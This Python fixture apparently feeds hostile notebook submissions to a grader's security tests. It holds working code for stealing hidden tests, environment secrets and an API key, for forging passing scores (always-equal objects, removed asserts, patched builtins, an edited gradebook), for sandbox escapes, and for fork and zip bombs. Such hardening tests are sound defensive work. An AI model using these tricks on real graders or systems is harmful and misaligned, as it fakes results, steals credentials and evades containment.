# What a learner may hand in instead of an answer: one attack a section, each the text of the solution cell.
# Read by test_examiner_attacks.py, never imported. @@NAMES@@ stand for paths of the grader that the attacker is given as a gift.
# A section is "# %% family: name"; "| bounded" marks those that stock nbgrader can run without harm to this machine,
# "| own cells" those that break the shell in which the attacker's own later answers would run.
# ruff: noqa

# %% read: hidden tests from the source folder | bounded
import glob

for path in glob.glob("@@COURSE@@/source/**/*.ipynb", recursive=True):
    print(open(path).read())

# %% read: the gradebook | bounded
import sqlite3

for row in sqlite3.connect("@@GRADEBOOK@@").execute("select source from source_cell"):
    print(row)

# %% read: recordings | bounded
print(open("@@CASSETTE@@").read())

# %% read: the submission of another | bounded
print(open("@@OTHER@@").read())

# %% read: the whole disk for the marker
import os

for root in ("/tmp", "/var/tmp", "/home", "/root", "@@COURSE@@", os.path.expanduser("~"), "/mnt", "/srv", "/opt"):
    for folder, _, names in os.walk(root):
        for name in names[:50]:
            try:
                text = open(os.path.join(folder, name), errors="replace").read(100_000)
            except OSError:
                continue
            if "XYZ" + "ZY" in text:
                print(folder, name, text)

# %% read: environment of this process | bounded
import os

print(dict(os.environ))

# %% read: environment of every process
import glob

for path in glob.glob("/proc/[0-9]*/environ"):
    try:
        print(open(path).read())
    except OSError as error:
        print(error)

# %% read: command lines and open files of every process
import glob, os

for path in glob.glob("/proc/[0-9]*/fd/*"):
    try:
        target = os.readlink(path)
        print(target)
        print(open(path, errors="replace").read(10_000) if target.startswith("/") and "dev" not in target else "")
    except OSError:
        pass

# %% read: memory of the parent
import os

for pid in (os.getppid(), 1):
    try:
        for line in open(f"/proc/{pid}/maps"):
            start, end = (int(x, 16) for x in line.split()[0].split("-"))
            with open(f"/proc/{pid}/mem", "rb") as memory:
                memory.seek(start)
                data = memory.read(min(end - start, 1 << 22))
                place = data.find(bytes([88, 89, 90, 90, 89]) + b"-expected")
                if place >= 0:
                    print(data[place : place + 200])
    except OSError as error:
        print(error)

# %% read: what this process was born with | bounded
import sys


def look():
    for line in open("/proc/self/maps"):
        span, rights = line.split()[:2]
        start, end = (int(x, 16) for x in span.split("-"))
        if not rights.startswith("rw") or end - start > 1 << 29:
            continue
        with open("/proc/self/mem", "rb", buffering=0) as memory:
            memory.seek(start)
            while memory.tell() < end and (data := memory.read(min(1 << 22, end - memory.tell()))):
                for kind in (b"-expected", b"-double", b"-environment"):
                    place = data.find(kind)
                    while place >= 0:
                        if data[max(0, place - 5) : place][::-1] == b"YZZYX":
                            print("XYZ" + "ZY", kind)
                        place = data.find(kind, place + 1)


def squares(n):
    if n == 7:
        look()
    return [n]


look()
print([("XYZ" + "ZY", name) for name in sys.modules if name.partition(".")[0] == "coreskills"])

# %% read: the notebook being graded | bounded
import glob, json

for path in glob.glob("**/*.ipynb", recursive=True) + glob.glob("../**/*.ipynb", recursive=True):
    print(open(path).read())

# %% read: objects of the interpreter | bounded
import gc

for thing in gc.get_objects():
    if isinstance(thing, (dict, list)) and "XYZ" + "ZY" in repr(thing)[:20_000]:
        print(repr(thing)[:5_000])

# %% read: the check's frames while it calls | bounded
import sys


def squares(n):
    frame = sys._getframe()
    while frame is not None:
        print(
            frame.f_code.co_filename,
            {k: repr(v)[:500] for k, v in frame.f_locals.items()},
            {k: repr(v)[:200] for k, v in frame.f_globals.items()},
        )
        frame = frame.f_back
    return []


# %% read: input history of the shell | bounded
ip = get_ipython()


def squares(n):
    print(ip.user_ns.get("In"), list(ip.history_manager.get_range(raw=True)) if ip.history_manager else "")
    print(getattr(ip, "last_execution_result", None), ip.get_parent() if hasattr(ip, "get_parent") else "")
    return []


# %% read: the grader's code | bounded
import coreskills.examiner

print("XYZZY", coreskills.examiner.__file__)


# %% read: a double's inner parts | bounded
def apply(fn, value):
    for name in (
        "__globals__",
        "__closure__",
        "__code__",
        "__self__",
        "func_globals",
        "gi_frame",
        "__class__",
        "__dict__",
        "__wrapped__",
    ):
        try:
            found = getattr(fn, name)
            print(name, found, getattr(found, "co_consts", ""), found.get("secret") if hasattr(found, "get") else "")
        except Exception as error:
            print(type(error))
    return fn(value)


# %% read: objects never lent, by number | bounded
def apply(fn, value):
    peer = object.__getattribute__(fn, "_peer")
    for number in range(200):
        for op in ("str", "get", "call"):
            try:
                print(number, op, peer.ask(op, number, "secret"))
            except Exception as error:
                pass
    return fn(value)


# %% read: recordings through the gateway | bounded
import os, urllib.request

base, key = os.environ.get("CORESKILLS_GATEWAY_URL", ""), os.environ.get("ANTHROPIC_API_KEY", "")
for path in (
    "/coreskills/cassettes",
    "/coreskills/calls?scope=lab",
    "/../../cassettes",
    "/v1/models",
    "/coreskills/status",
    "/coreskills/calls/1",
):
    try:
        request = urllib.request.Request(base + path, headers={"authorization": f"Bearer {key}"})
        print(urllib.request.urlopen(request, timeout=5).read())
    except Exception as error:
        print(error)


# %% forge: an object equal to everything | bounded
class Yes(list):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = None


def squares(n):
    return Yes()


# %% forge: an object that is not a list but equal to everything | bounded
class Yes:
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __lt__(self, other):
        return True

    __gt__ = __le__ = __ge__ = __lt__

    def __sub__(self, other):
        return 0.0

    def __rsub__(self, other):
        return 0.0

    def __abs__(self):
        return 0.0

    def __contains__(self, item):
        return True

    def __len__(self):
        return 7

    def __iter__(self):
        return iter([self] * 7)

    def __getitem__(self, place):
        return self

    def __getattr__(self, name):
        return lambda *a, **k: True

    def __bool__(self):
        return True

    def __float__(self):
        return 55.0

    def __call__(self, *a, **k):
        return self


def squares(n):
    return Yes()


def total(n):
    return Yes()


# %% forge: a number that equals every number | bounded
class Any(float):
    def __eq__(self, other):
        return True

    def __sub__(self, other):
        return 0.0

    __rsub__ = __sub__

    def __abs__(self):
        return 0.0


class List(list):
    def __eq__(self, other):
        return True

    def __iter__(self):
        return iter([Any()] * 7)


def squares(n):
    return List([Any()] * 7)


def total(n):
    return Any()


# %% forge: a transformer that removes asserts | bounded
import ast


class NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)


get_ipython().ast_transformers.append(NoAsserts())

# %% forge: an input transformer that empties cells | bounded | own cells
get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\n"])

# %% forge: run_cell replaced | bounded | own cells
ip = get_ipython()


class Fine:
    success = True
    result = None
    error_before_exec = error_in_exec = None


type(ip).run_cell = lambda *a, **k: Fine()
type(ip).run_cell_async = lambda *a, **k: Fine()
type(ip).run_code = lambda *a, **k: False

# %% forge: showtraceback replaced | bounded
ip = get_ipython()
ip.showtraceback = lambda *a, **k: None
ip._showtraceback = lambda *a, **k: None
type(ip).showtraceback = lambda *a, **k: None

# %% forge: a quiet AssertionError | bounded
import builtins


class Quiet(Exception):
    def __init__(self, *a):
        pass


builtins.AssertionError = Quiet

# %% forge: patched builtins | bounded
import builtins

builtins.abs = lambda x: 0
builtins.isinstance = lambda *a: True
builtins.len = lambda x: 7
builtins.all = builtins.any = lambda x: True
builtins.sum = lambda *a: 55

# %% forge: patched numpy testing | bounded
import numpy, numpy.testing

numpy.testing.assert_allclose = lambda *a, **k: None
numpy.testing.assert_array_equal = lambda *a, **k: None
numpy.allclose = lambda *a, **k: True
np = numpy


def assert_allclose(*a, **k):
    pass


# %% forge: patched pytest raises | bounded
import pytest
from contextlib import contextmanager


@contextmanager
def raises(*a, **k):
    try:
        yield
    except BaseException:
        pass


pytest.raises = raises

# %% forge: a fake module in the folder | bounded
open("pytest.py", "w").write(
    "class raises:\n def __init__(s,*a,**k): pass\n def __enter__(s): return s\n def __exit__(s,*a): return True\n"
)
open("numpy.py", "w").write("class testing:\n @staticmethod\n def assert_allclose(*a,**k): pass\n")
open("sitecustomize.py", "w").write("print('XYZZY')")

# %% forge: names of the check rebound | bounded
expected = []
secret = ""
total = lambda n: 55.0

# %% forge: a builtin under our name | bounded
squares = dict

# %% forge: printing what a grader prints | bounded
print("All tests passed!")
print('{"score": 3, "max_score": 3}')
from IPython.display import display

display({"text/plain": "3.0"}, raw=True)
3.0

# %% forge: outputs of other cells | bounded
from IPython.display import display, clear_output, update_display


def squares(n):
    clear_output()
    display(3.0, display_id="x")
    update_display(3.0, display_id="x")
    get_ipython().displayhook(3.0) if hasattr(get_ipython(), "displayhook") else None
    raise SystemExit(0)


# %% forge: SystemExit in a call | bounded
import sys


def squares(n):
    sys.exit(0)


# %% forge: os._exit in a call | bounded
import os


def squares(n):
    os._exit(0)


# %% forge: StopIteration in a call | bounded
def squares(n):
    raise StopIteration


def total(n):
    raise StopIteration


# %% forge: SkipTest in a call | bounded
import unittest


def squares(n):
    raise unittest.SkipTest("skip")


# %% forge: pytest skip in a call | bounded
def squares(n):
    import pytest

    pytest.skip("no", allow_module_level=True)


# %% forge: KeyboardInterrupt in a call | bounded
def squares(n):
    raise KeyboardInterrupt


# %% forge: the timeout's own exception | bounded
def squares(n):
    kind = type("CellTimeout", (BaseException,), {"__module__": "coreskills.examiner.deaths"})
    raise kind()


# %% forge: a generator that never ends | bounded
def squares(n):
    while True:
        yield 1


# %% forge: frames on the wire
import json, os, struct


def squares(n):
    for fd in range(3, 20):
        for message in (
            {"value": [[1]]},
            {"value": ["@", 0], "heap": [["l", 1, 4, 9, 16, 25, 36, 49]]},
            {"op": "call", "to": 1, "a": []},
            {"error": ["m", 1]},
        ):
            data = json.dumps(message).encode()
            try:
                os.write(fd, struct.pack("!I", len(data)) + data)
            except OSError:
                pass
    return []


# %% forge: a garbage frame on the wire
import os


def squares(n):
    for fd in range(3, 20):
        try:
            os.write(fd, b"\xff" * 4096)
        except OSError:
            pass
    return []


# %% forge: a huge frame on the wire
import os, struct


def squares(n):
    os.write(3, struct.pack("!I", 2**31) + b"x" * 65536)
    return []


# %% forge: library objects claimed on the wire
import json, os, struct


def squares(n):
    for value in (
        ["ref", "os", "system"],
        ["ty", "builtins", "eval"],
        ["ty", "numpy", "memmap"],
        ["py", "subprocess", "Popen", {}, []],
        ["nd", "O"],
    ):
        data = json.dumps({"value": value}).encode()
        os.write(3, struct.pack("!I", len(data)) + data)
    return []


# %% forge: an encoder that lies | own cells
from coreskills_widgets.candidate import codec, lending
import builtins


def lie(self, value):
    return ["l", 1, 4, 9, 16, 25, 36, 49]


lending.CandidateLender.encode_error = lambda self, error, encoder: None
codec.Encoder.encode = lambda self, value: True

# %% forge: edited gradebook | bounded
import sqlite3

connection = sqlite3.connect("@@GRADEBOOK@@")
connection.execute("update grade_cells set max_score = 0")
connection.execute("update source_cell set source = 'pass'")
connection.commit()

# %% forge: an edited source folder
import glob

for path in glob.glob("@@COURSE@@/**/*.ipynb", recursive=True):
    open(path, "w").write("{}")

# %% forge: library files edited on disk
import numpy.testing, pytest, os

for module in (numpy.testing, pytest, os):
    open(module.__file__, "a").write("\n# XYZZY was here\n")

# %% forge: an alarm that ends the check
import os, signal


def squares(n):
    for pid in (os.getppid(), 1, -1):
        try:
            os.kill(pid, signal.SIGALRM)
        except OSError:
            pass
    return []


# %% escape: the network
import socket

for address in (("1.1.1.1", 53), ("8.8.8.8", 443), ("127.0.0.1", 22), ("169.254.169.254", 80)):
    try:
        socket.create_connection(address, 1)
        print("XYZZY reached", address)
    except OSError as error:
        print(error)
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
    try:
        udp.sendto(b"x", ("1.1.1.1", 53))
        print("XYZZY sent")
    except OSError as error:
        print(error)

# %% escape: a socket of the machine
import socket, glob

for path in (
    glob.glob("/var/run/**", recursive=True)
    + glob.glob("/run/**", recursive=True)
    + glob.glob("/tmp/**", recursive=True)
    + glob.glob("/var/tmp/**", recursive=True)
):
    try:
        with socket.socket(socket.AF_UNIX) as one:
            one.connect(path)
            print("XYZZY connected", path)
    except OSError:
        pass

# %% escape: writing outside of the folder
import os, sys

for path in (
    "/etc/x",
    "/usr/x",
    "/x",
    "@@COURSE@@/x",
    sys.prefix + "/x",
    "/dev/shm/../x",
    "/proc/sys/kernel/core_pattern",
    "/sys/x",
):
    try:
        open(path, "w").write("x")
        print("XYZZY wrote", path)
    except OSError as error:
        print(error)

# %% escape: mounts and namespaces
import ctypes, os

libc = ctypes.CDLL(None, use_errno=True)
for name, result in (
    ("mount", libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)),
    ("umount", libc.umount2(b"/tmp", 2)),
    ("unshare", libc.unshare(0x10000000)),
    ("chroot", libc.chroot(b"/tmp")),
    ("setns", libc.setns(3, 0)),
    ("setuid", libc.setuid(0)),
    ("sethostname", libc.sethostname(b"x", 1)),
):
    print("XYZZY" if result == 0 else "refused", name)
pid = libc.syscall(56, 0x10000000 | 17, 0, 0, 0, 0)
if pid == 0:
    os._exit(0)
print("XYZZY user namespace" if pid > 0 else "refused")

# %% escape: the old root
import os

for path in ("/proc/1/root/work", "/proc/1/root/../..", "/proc/self/root/root", "/.oldroot", "/proc/1/cwd/../../../.."):
    try:
        print(path, os.listdir(path))
    except OSError as error:
        print(error)
fd = os.open("/", os.O_RDONLY)
for step in range(20):
    fd = os.open("..", os.O_RDONLY, dir_fd=fd)
print("XYZZY" if "@@COURSE@@".split("/")[1] in os.listdir(fd) and os.path.exists("@@GRADEBOOK@@") else "no")

# %% escape: tracing
import ctypes, os

libc = ctypes.CDLL(None, use_errno=True)
for pid in (os.getppid(), 1, 2):
    print("XYZZY" if libc.ptrace(16, pid, 0, 0) == 0 else "refused")
local, remote = (ctypes.c_char * 16)(), (ctypes.c_void_p * 2)(0x400000, 16)
print(
    "XYZZY"
    if libc.process_vm_readv(os.getppid(), (ctypes.c_void_p * 2)(ctypes.addressof(local), 16), 1, remote, 1, 0) > 0
    else "refused"
)

# %% escape: signals to everybody
import os, signal

for pid in [os.getppid(), -1, *range(2, 400)]:
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass

# %% escape: a setuid program
import subprocess

for command in (["su", "-c", "id"], ["sudo", "-n", "id"], ["mount"], ["ping", "-c1", "127.0.0.1"], ["passwd"]):
    try:
        done = subprocess.run(command, capture_output=True, timeout=2, stdin=subprocess.DEVNULL)
        print("XYZZY" if b"uid=0" in done.stdout else "refused")
    except Exception as error:
        print(error)

# %% escape: links as deliverables
import os

os.makedirs("out", exist_ok=True)
for name in ("answer.txt", "answer2.txt"):
    if os.path.lexists("out/" + name):
        os.remove("out/" + name)
os.symlink("@@SECRET_FILE@@", "out/answer.txt")
os.symlink("/proc/self/environ", "out/answer2.txt")

# %% escape: a link as the folder of deliverables
import os, shutil

shutil.rmtree("out", ignore_errors=True)
os.symlink("@@COURSE@@/secrets", "out")

# %% escape: a pipe as deliverable
import os

os.makedirs("out", exist_ok=True)
os.mkfifo("out/answer.txt")

# %% escape: a device as deliverable
import os, stat

os.makedirs("out", exist_ok=True)
try:
    os.mknod("out/answer.txt", stat.S_IFCHR | 0o666, os.makedev(1, 5))
    print("XYZZY made a device")
except OSError as error:
    print(error)

# %% escape: another process that outlives us
import subprocess, sys

subprocess.Popen([sys.executable, "-c", "import time,os\nwhile True: time.sleep(0.1)"], start_new_session=True)
get_ipython().run_cell("print(1)")

# %% exhaust: forks
import os

while True:
    try:
        if os.fork() == 0:
            while True:
                pass
    except OSError:
        break


# %% exhaust: memory in one process
def squares(n):
    hoard = []
    while True:
        hoard.append(bytearray(50_000_000))


# %% exhaust: memory in many processes
import os


def squares(n):
    for _ in range(20):
        if os.fork() == 0:
            hoard = [bytearray(b"x" * 300_000_000) for _ in range(5)]
            while True:
                pass
    while True:
        pass


# %% exhaust: disk
try:
    for number in range(100):
        with open(f"big{number}", "wb") as file:
            for _ in range(100):
                file.write(b"x" * 10_000_000)
except OSError as error:
    print(error)

# %% exhaust: files without end
import os

try:
    for number in range(10_000_000):
        open(f"f{number}", "w").close()
except OSError as error:
    print(error)

# %% exhaust: output of one gigabyte
import sys

for _ in range(10_000):
    print("x" * 100_000)

# %% exhaust: output of one gigabyte from a program
import subprocess, sys

subprocess.run([sys.executable, "-c", "import os\nfor _ in range(10000): os.write(1, b'x' * 100000)"])

# %% exhaust: threads
import threading, time


def wait():
    time.sleep(600)


try:
    while True:
        threading.Thread(target=wait, daemon=True).start()
except RuntimeError as error:
    print(error)

# %% exhaust: an endless loop
while True:
    pass

# %% exhaust: an endless loop that ignores interrupts
import signal

signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass


# %% exhaust: an endless loop in a call
def squares(n):
    while True:
        pass


# %% exhaust: an endless loop in C
def squares(n):
    return list(range(10**9)).count(-1) or max(range(10**12))


# %% exhaust: a swallowing loop in a call
def squares(n):
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass


# %% exhaust: a sparse file of many terabytes
import os

os.makedirs("out", exist_ok=True)
try:
    with open("out/answer.txt", "wb") as file:
        file.truncate(2**42)
except OSError as error:
    print(error)

# %% exhaust: a zip bomb as deliverable
import os, zipfile

os.makedirs("out", exist_ok=True)
with zipfile.ZipFile("out/answer.zip", "w", zipfile.ZIP_DEFLATED) as bomb:
    with bomb.open("answer.txt", "w", force_zip64=True) as inner:
        for _ in range(60):
            inner.write(b"0" * 100_000_000)


# %% exhaust: data nested without end
def squares(n):
    deep = []
    for _ in range(100_000):
        deep = [deep]
    return deep


# %% exhaust: a list that holds itself
def squares(n):
    ring = [1, 4, 9]
    ring.append(ring)
    return ring


# %% exhaust: a number of a million digits
def squares(n):
    return [10**1_000_000] * 7


# %% exhaust: a reply of a hundred megabytes
def squares(n):
    return ["x" * 1_000_000] * 100


# %% exhaust: shared memory
import ctypes, mmap, os

libc = ctypes.CDLL(None, use_errno=True)
for _ in range(1000):
    libc.shmget(0, 1 << 28, 0o1666)
    libc.memfd_create(b"x", 0)
try:
    open("/dev/shm/x", "wb").write(b"x" * 10**9)
except OSError as error:
    print(error)
